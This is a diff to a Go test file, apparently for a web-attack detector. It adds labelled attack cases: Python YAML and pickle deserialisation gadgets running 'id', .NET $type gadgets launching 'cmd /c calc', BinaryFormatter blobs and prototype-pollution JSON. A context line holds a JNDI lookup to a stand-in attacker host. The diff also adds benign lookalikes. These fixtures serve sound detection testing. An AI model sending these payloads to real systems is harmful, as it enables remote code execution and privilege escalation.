@@ -58,6 +58,21 @@ var codeAttacks = []familyCase{
 	{"header:Accept", "${jndi:ldap://evil.example/a}", 0.99},
 	{"header:X-Data", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", 0.99},
 	{"header:Authorization", "Bearer rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 0.99},
+	// deserialisation gadgets of other runtimes (PayloadsAllTheThings'
+	// Python, YAML and .NET pages; ysoserial.net)
+	{"body:application/x-yaml", "!!python/object/apply:os.system [\"id\"]", 0.99},
+	{"q", "!!python/object/new:subprocess.check_output [[\"id\"]]", 0.99},
+	{"body:application/json", `{"data":"cos\nsystem\n(S'id'\ntR."}`, 0.99},
+	{"body:application/json", `{"data":"c__builtin__\neval\n(S'1'\ntR."}`, 0.99},
+	{"body:application/json", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}`, 0.99},
+	{"body:application/json", `{"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"}`, 0.99},
+	{"q", `{'$type':'System.Diagnostics.Process, System'}`, 0.99},
+	{"header:Cookie", "session=AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3JtcywgVmVyc2lvbj00LjAuMC4w", 0.99},
+	{"q", "AAEAAAD/////AQAAAAAAAAAEAQAAAH9TeXN0ZW0uQ29sbGVjdGlvbnMuR2VuZXJpYy5Tb3J0ZWRTZXQ", 0.99},
+	// a key "prototype" in the object of a key "constructor": lodash's
+	// merge pollutes Object.prototype with it
+	{"body:application/json", `{"constructor":{"prototype":{"isAdmin":true}}}`, 0.99},
+	{"body:application/json", `{"user":{"constructor":{"prototype":{"role":"admin"}}}}`, 0.99},
 }
 
 // Prose about code, stack traces, maths and real header values.
@@ -92,6 +107,14 @@ var codeBenign = []familyCase{
 	{"header:X-Request-Id", "3f2b9c1e-7a4d-4e2b-9f1a-2c3d4e5f6a7b", 0},
 	{"ua", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0},
 	{"header:X-Forwarded-Host", "shop.example:8443", 0},
+	// a type hint naming the application's own type, a YAML tuple, the
+	// keys constructor and prototype side by side
+	{"body:application/json", `{"$type":"MyApp.Models.Order, MyApp","id":7}`, 0.98},
+	{"body:application/x-yaml", "point: !!python/tuple [1, 2]", 0.98},
+	{"q", `{"$type":"MyApp.Models.Order, MyApp","id":7}`, 0.98},
+	{"body:application/json", `{"constructor":{"name":"Ada"},"prototype":{"v":2}}`, 0},
+	{"body:application/json", `{"constructor":"Ada","prototype":"v2"}`, 0},
+	{"q", "the BinaryFormatter header is AAEAAAD in base64", 0},
 }
 
 func TestCode(t *testing.T) { checkFamily(t, "code", codeAttacks, codeBenign, 0.9) }
